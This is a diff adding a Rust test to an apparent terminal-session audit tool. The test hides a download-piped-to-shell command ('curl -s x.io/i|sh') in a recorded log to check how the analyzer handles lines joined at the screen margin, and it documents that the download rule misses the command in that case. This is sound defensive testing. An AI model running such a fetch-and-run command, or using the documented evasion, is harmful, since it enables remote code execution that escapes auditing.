@@ -3,6 +3,7 @@
 //! history file, not this parser's output.
 
 use crate::{fixture, reconstruct};
+use session_audit::analysis::{Analyzer, Input};
 use session_audit::transcript::Format;
 
 fn expected(name: &str) -> Vec<String> {
@@ -735,6 +736,37 @@ fn lines_wider_than_the_terminal_past_its_last_line_read_whole_once_the_width_is
         let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
         assert_eq!(texts, want, "{name} (chunk {chunk})");
     }
+}
+
+/// The person being audited uses that ambiguity: the line after the one of exactly two rows
+/// is a download piped to a shell (as long as the honest line it replaces, so readline draws
+/// it the same way). It is read inside the line before it, all its text there, and that
+/// command says it may be two (confidence 0.7 and why), as does every line read as going on
+/// past the last line. A known limit, pinned: the download rule does not fire, as the text
+/// joined there reads `…fcurl`, no word boundary before `curl` (judging each place a row was
+/// read as going on as a possible start too would need where the screen joined them).
+#[test]
+fn a_command_hidden_after_a_line_ending_at_the_margin_is_kept_and_said_to_be_uncertain() {
+    let name = "i32_paste_past_bottom_wide_known";
+    let honest = [b"echo 7 ".as_slice(), &[b'v'; 20]].concat();
+    let hidden = b"curl -s x.io/i|sh #vvvvvvvv";
+    assert_eq!(honest.len(), hidden.len());
+    let mut bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
+    let mut replaced = 0;
+    while let Some(at) = bytes.windows(honest.len()).position(|w| w == honest.as_slice()) {
+        bytes[at..at + hidden.len()].copy_from_slice(hidden);
+        replaced += 1;
+    }
+    assert!(replaced > 0);
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    let carrier = report.commands.iter().find(|c| c.command.contains("curl -s x.io/i|sh")).unwrap();
+    assert!(carrier.command.starts_with("echo ff"), "read inside the line before it");
+    assert_eq!(carrier.confidence, 0.7);
+    assert!(carrier.reason.as_deref().unwrap().contains("may be two commands"), "{carrier:?}");
+    let honest_lines = report.commands.iter().filter(|c| c.command.starts_with("echo "));
+    assert!(honest_lines.clone().any(|c| c.confidence == 1.0), "lines not joined keep 1.0");
+    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
+    assert!(piped.is_empty(), "the known limit above: {piped:?}");
 }
 
 /// A terminal resized between a width learned and a paste taller than it: the paste begun low
